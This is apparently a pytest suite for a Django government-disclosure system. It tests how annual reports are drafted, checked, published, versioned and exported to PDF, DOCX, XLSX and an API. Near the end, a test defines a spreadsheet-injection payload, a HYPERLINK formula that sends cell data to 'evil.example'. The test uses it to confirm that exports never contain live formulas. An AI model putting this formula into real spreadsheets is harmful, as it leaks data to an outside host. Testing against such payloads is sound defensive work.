"""The annual report as kept and published (issue #6): the working copy starts from last year's
text; adjustments replace a cell with a reason and are shown; publication is refused while a rule
fails (annual-report.md, "refuse to publish on failure"), freezes the numbers, renders the files and
versions every republication with a 更正说明; the portal, the files and the API show what was
published; staff outside the body's units see nothing."""

from datetime import date

import pytest
from django.core.exceptions import PermissionDenied, ValidationError

from gongkai.core.models import AuditEvent, Role
from gongkai.reports import selectors, services
from gongkai.reports.models import ReportVersion

from .conftest import P

TEXT = {"overview": "（一）主动公开\n全年主动公开政府信息。\n（二）依申请公开\n依法办理申请。",
        "problems": "公开内容的解读还不够。", "other_matters": "本年度未收取信息处理费。"}


@pytest.fixture
def office(make_user):
    return make_user("office", "office", username="office_reports")


@pytest.fixture
def branch_clerk(make_user):
    """Keeps the reports of 三元分局 only."""
    role = Role.objects.create(code="report_clerk", name="年报编制员", scope=Role.Scope.SUBTREE,
                               capabilities=[services.CAPABILITY])
    user = make_user(None, "sanyuan", username="report_clerk")
    user.roles.add(role)
    return user


def ready(office, bodies, year=2025):
    report = services.open_report(actor=office, body=bodies["city"], year=year)
    return services.save_text(actor=office, report=report, **TEXT)


def test_years_that_can_have_a_report(office, bodies, pin_today):
    pin_today(date(2026, 11, 24))
    for year, message in ((2026, "只能编制2008年至2025年"), (2007, "只能编制2008年至2025年"), ("二〇二五", "四位数字")):
        with pytest.raises(ValidationError, match=message):
            services.open_report(actor=office, body=bodies["city"], year=year)


def test_publication_freezes_the_numbers_and_renders_every_format(records, office, bodies, case):
    """Publishing freezes the report: later changes to cases do not alter it."""
    report = ready(office, bodies)
    version = services.publish(actor=office, report=report)
    assert version.number == 1 and version.correction == ""
    assert bytes(version.pdf).startswith(b"%PDF") and bytes(version.docx)[:2] == b"PK" and bytes(version.xlsx)[:2] == b"PK"
    frozen = selectors.api_document(version)
    received = next(r for r in frozen["sections"]["三"] if r["label"] == "一、本年新收政府信息公开申请数量")
    assert received["values"]["总计"] == 27
    # A 2025 case entered afterwards changes the working copy, not the published version.
    case(P, date(2025, 7, 1), date(2025, 7, 20), "disclosed")
    version.refresh_from_db()
    assert selectors.api_document(version)["sections"] == frozen["sections"]
    assert services.figures(report).report.value("三", "received", "total") == 28
    with pytest.raises(ValueError):
        version.save()
    with pytest.raises(ValueError):
        version.delete()
    assert AuditEvent.objects.filter(action="annual_report.publish", object_id=str(report.pk)).exists()


def test_republishing_makes_a_new_version_with_a_correction_note(records, office, bodies):
    report = ready(office, bodies)
    services.publish(actor=office, report=report)
    with pytest.raises(ValidationError) as exc:
        services.publish(actor=office, report=report)
    assert "更正说明" in exc.value.message_dict["correction"][0]
    second = services.publish(actor=office, report=report, correction="补录一件2025年7月的申请。")
    assert second.number == 2 and second.document["correction"] == "补录一件2025年7月的申请。"
    assert list(selectors.public_versions()) == [second]
    # Search (issue #9): each publication logs the new version and the one it replaces.
    from gongkai.search.models import Change

    first = second.report.versions.get(number=1)
    assert list(Change.objects.filter(kind="report").values_list("object_id", flat=True)) == [
        first.pk, second.pk, first.pk]


def test_a_report_failing_a_rule_cannot_be_published(records, office, bodies):
    """annual-report.md: check the rules on every computation and refuse to publish on failure."""
    report = ready(office, bodies)
    services.adjust(actor=office, report=report, section="三", row="received", column="person", value=9,
                    reason="系统启用前的纸质台账")
    figures = services.figures(report)
    assert {f.rule for f in figures.failures} == {1, 3}
    with pytest.raises(services.ReportFailsChecks) as exc:
        services.publish(actor=office, report=report)
    assert "规则1" in str(exc.value) and not ReportVersion.objects.exists()


def test_a_consistent_adjustment_is_published_and_shown(records, office, bodies):
    """Manual adjustments to a cell, with a reason, audited and shown as adjustments."""
    report = ready(office, bodies)
    with pytest.raises(ValidationError) as exc:
        services.adjust(actor=office, report=report, section="二", row="licence", column="decisions", value="-1",
                        reason="")
    assert set(exc.value.message_dict) == {"value", "reason"}
    services.adjust(actor=office, report=report, section="二", row="licence", column="decisions", value="1300",
                    reason="1—5月为纸质台账数据")
    version = services.publish(actor=office, report=report)
    licence = next(r for r in selectors.api_document(version)["sections"]["二"] if r["label"] == "行政许可")
    assert licence["values"] == {"本年处理决定数量": 1300}
    assert version.document["adjustments"] == [{
        "section": "二", "row": "行政许可", "column": "本年处理决定数量", "row_key": "licence",
        "column_key": "decisions", "computed": 1234, "value": 1300, "reason": "1—5月为纸质台账数据"}]
    assert AuditEvent.objects.filter(action="annual_report.adjust", object_id=str(report.pk)).exists()


def test_next_year_starts_from_last_years_text_and_checks_the_carry_over(records, office, bodies, case):
    """Rule 5: this year's 二 equals last year's 四, as published."""
    last = ready(office, bodies, 2024)
    services.publish(actor=office, report=last)
    report = services.open_report(actor=office, body=bodies["city"], year=2025)
    assert (report.overview, report.problems, report.other_matters) == tuple(TEXT.values())
    assert services.figures(report).previous_checked and not services.figures(report).failures
    case(P, date(2024, 12, 1))  # a 2024 application entered after the 2024 report was published
    failures = services.figures(report).failures
    assert [f.rule for f in failures] == [5, 5]  # 自然人 and 总计
    assert "2024年度报告" in failures[0].message


def test_scope_a_branch_clerk_keeps_only_the_branch(records, office, bodies, branch_clerk, client):
    with pytest.raises(PermissionDenied):
        services.open_report(actor=branch_clerk, body=bodies["city"], year=2025)
    mine = services.open_report(actor=branch_clerk, body=bodies["branch"], year=2025)
    city = services.open_report(actor=office, body=bodies["city"], year=2025)
    client.force_login(branch_clerk)
    assert client.get(f"/workbench/reports/annual/{mine.pk}/").status_code == 200
    assert client.get(f"/workbench/reports/annual/{city.pk}/").status_code == 404
    assert client.get(f"/workbench/reports/annual/{city.pk}/cell/三/received/total/").status_code == 404


def test_workbench_page_links_every_number_to_its_records(records, office, bodies, client):
    report = ready(office, bodies)
    client.force_login(office)
    page = client.get(f"/workbench/reports/annual/{report.pk}/").content.decode()
    assert "五项勾稽关系全部通过" in page
    assert f'/workbench/reports/annual/{report.pk}/cell/%E4%B8%89/carried_in/total/' in page
    cell = client.get(f"/workbench/reports/annual/{report.pk}/cell/三/carried_in/total/").content.decode()
    for key in ("c1", "c2", "c3"):
        assert records[key].tracking_number in cell
    assert "350400-2024-L001" in cell and "所统计的记录（4）" in cell
    assert records["c1"].name not in cell  # the drill-down names no applicant
    # A failing cell is marked and its page says why.
    client.post(f"/workbench/reports/annual/{report.pk}/cell/三/received/person/", {"value": "9", "reason": "纸质台账补录"})
    page = client.get(f"/workbench/reports/annual/{report.pk}/").content.decode()
    assert "未通过" in page and 'class="num adjusted failing"' in page
    response = client.post(f"/workbench/reports/annual/{report.pk}/publish/", {})
    assert "不能公布" in response.content.decode() and not ReportVersion.objects.exists()


def test_portal_files_and_api_show_what_was_published(records, office, bodies, client):
    assert client.get("/api/v1/reports/annual/2025/").status_code == 404
    report = ready(office, bodies)
    version = services.publish(actor=office, report=report)
    listing = client.get("/xxgk/nianbao/").content.decode()
    assert f"/xxgk/nianbao/{version.pk}/" in listing and "三明市公安局2025年政府信息公开工作年度报告" in listing
    page = client.get(f"/xxgk/nianbao/{version.pk}/").content.decode()
    assert "一、本年新收政府信息公开申请数量" in page and "全年主动公开政府信息。" in page
    assert "/workbench/reports/" not in page  # numbers are not links on the portal
    pdf = client.get(f"/xxgk/nianbao/{version.pk}.pdf")
    assert pdf["Content-Type"] == "application/pdf" and pdf.content.startswith(b"%PDF")
    assert client.get(f"/xxgk/nianbao/{version.pk}.exe").status_code == 404
    data = client.get("/api/v1/reports/annual/2025/").json()
    assert data["version"] == 1 and data["body"]["code"] == "350400"
    three = data["sections"]["三"]
    assert three[0] == {"label": "一、本年新收政府信息公开申请数量", "group": "",
                        "values": {"自然人": 7, "商业企业": 4, "科研机构": 4, "社会公益组织": 4, "法律服务机构": 4,
                                   "其他": 4, "总计": 27}}
    secret = next(r for r in three if r["label"] == "1.属于国家秘密")
    assert secret["group"] == "（三）不予公开" and secret["values"]["总计"] == 2
    assert [r["label"] for r in data["sections"]["四"]] == ["行政复议", "未经复议直接起诉", "复议后起诉"]
    assert client.get("/api/v1/reports/annual/2025/", {"body": "350404"}).status_code == 404
    assert client.get("/api/v1/reports/annual/2025/", {"body": "999"}).json() == {"detail": "未找到该公开主体"}


def test_office_is_reminded_until_last_years_report_is_published(records, office, bodies, client):
    due = selectors.due(office, date(2026, 1, 2))
    assert due.year == 2025 and not due.late and [b.pk for b in due.missing] == [bodies["city"].pk,
                                                                                  bodies["branch"].pk]
    assert selectors.due(office, date(2026, 2, 1)).late
    services.publish(actor=office, report=ready(office, bodies))
    assert [b.pk for b in selectors.due(office, date(2026, 1, 20)).missing] == [bodies["branch"].pk]
    client.force_login(office)
    home = client.get("/workbench/").content.decode()
    assert "1</span>个公开主体尚未公布" in home


def test_staff_api_goes_through_the_same_services(records, office, branch_clerk, bodies):
    from django.test import Client

    api = Client()
    api.force_login(office)
    response = api.post("/api/v1/staff/reports/annual/", {"body": "350400", "year": 2025},
                        content_type="application/json")
    assert response.status_code == 201, response.content
    report = response.json()
    assert report["checks"]["passed"] and report["text"] == {"一": "", "五": "", "六": ""}
    base = f"/api/v1/staff/reports/annual/{report['id']}/"
    response = api.post(base + "publish/", {}, content_type="application/json")
    assert response.status_code == 400 and "请填写第一部分" in str(response.json())
    api.post(base + "text/", TEXT, content_type="application/json")
    response = api.post(base + "adjust/", {"section": "三", "row": "received", "column": "person", "value": "9",
                                           "reason": "纸质台账补录"}, content_type="application/json")
    detail = response.json()
    assert not detail["checks"]["passed"] and {f["rule"] for f in detail["checks"]["failures"]} == {1, 3}
    response = api.post(base + "publish/", {}, content_type="application/json")
    assert response.status_code == 400 and "规则1" in str(response.json())
    api.post(base + "unadjust/", {"section": "三", "row": "received", "column": "person"},
             content_type="application/json")
    response = api.post(base + "publish/", {}, content_type="application/json")
    assert response.status_code == 200 and response.json()["versions"][0]["number"] == 1
    assert api.post(base + "fly/", {}, content_type="application/json").status_code == 400
    clerk = Client()
    clerk.force_login(branch_clerk)
    assert clerk.get(base).status_code == 404
    assert clerk.post("/api/v1/staff/reports/annual/", {"body": "350400", "year": 2025},
                      content_type="application/json").status_code == 403
    assert [r["body"] for r in clerk.get("/api/v1/staff/reports/annual/").json()] == []


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def formulas(data: bytes) -> list:
    import io

    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    return [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_typed_text_never_becomes_a_formula_or_breaks_the_documents(records, office, bodies, client):
    """privacy-lessons.md / portal safety: a published XLSX holds data, never a live formula; text
    pasted from Word (a vertical tab for a line break, other control characters) is cleaned."""
    report = services.open_report(actor=office, body=bodies["city"], year=2025)
    services.save_text(actor=office, report=report, overview="全年\x08主动公开。\x0b第二行", problems="问题\x1f一",
                       other_matters=FORMULA)
    services.adjust(actor=office, report=report, section="二", row="licence", column="decisions", value="1300",
                    reason=FORMULA)
    report.refresh_from_db()
    assert report.overview == "全年主动公开。\n第二行" and report.problems == "问题一"
    version = services.publish(actor=office, report=report)
    assert formulas(bytes(version.xlsx)) == []
    assert FORMULA in "".join(str(c.value) for ws in __import__("openpyxl").load_workbook(
        __import__("io").BytesIO(bytes(version.xlsx))).worksheets for row in ws.iter_rows() for c in row)
    from gongkai.reports import legacy_services

    template = legacy_services.save_template(actor=office, name="测试", title="{主体}{年度}年表", year_label="{年度}年度",
                                    rows=[{"label": FORMULA, "measure": "applications_received"}])
    client.force_login(office)
    data = client.get(f"/workbench/reports/legacy/table/{template.pk}/xlsx/?body=350400&year=2025").content
    assert formulas(data) == []
    assert client.get("/workbench/reports/legacy/templates/new/?from=abc").status_code == 404


def test_fee_adjustments_keep_at_most_four_decimals(records, office, bodies):
    report = services.open_report(actor=office, body=bodies["city"], year=2025)
    with pytest.raises(ValidationError, match="最多保留四位小数"):
        services.adjust(actor=office, report=report, section="二", row="fee", column="amount", value="0.00001",
                        reason="纸质台账补录")
    adjustment = services.adjust(actor=office, report=report, section="二", row="fee", column="amount",
                                 value="12.3457", reason="纸质台账补录")
    assert str(adjustment.value) == "12.3457"


def test_a_report_the_fonts_cannot_show_is_not_published(records, office, bodies, settings):
    """No PDF without its glyphs (issue #15): without fonts that show Chinese, publication is
    refused with the reason and nothing is frozen or versioned."""
    report = ready(office, bodies)
    settings.GONGKAI_DOCUMENT_SYSTEM_FONTS = False
    settings.GONGKAI_DOCUMENT_FONT_PATHS = []
    with pytest.raises(ValidationError, match="fonts-noto-cjk"):
        services.publish(actor=office, report=report)
    assert not ReportVersion.objects.exists()
    report.refresh_from_db()
    assert not report.versions.exists()
